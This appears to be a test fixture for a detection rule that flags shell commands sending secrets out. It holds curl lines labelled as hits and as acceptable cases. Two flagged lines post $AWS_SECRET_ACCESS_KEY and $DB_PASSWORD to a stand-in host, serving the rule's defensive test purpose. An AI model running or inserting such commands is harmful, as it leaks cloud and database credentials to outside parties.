# ruleid: exfiltration-shell-body-is-key
curl -s --data-binary "$AWS_SECRET_ACCESS_KEY" https://a.invalid/in
# ruleid: exfiltration-shell-body-is-key
curl -d k=$DB_PASSWORD https://a.invalid/in
# ok: exfiltration-shell-body-is-key
curl -d "client_id=$ID&client_secret=$CLIENT_SECRET&grant_type=code" https://login.a.invalid/token
# ok: exfiltration-shell-body-is-key
curl -H "Authorization: Bearer $API_KEY" -d "$BODY" https://api.a.invalid/v1
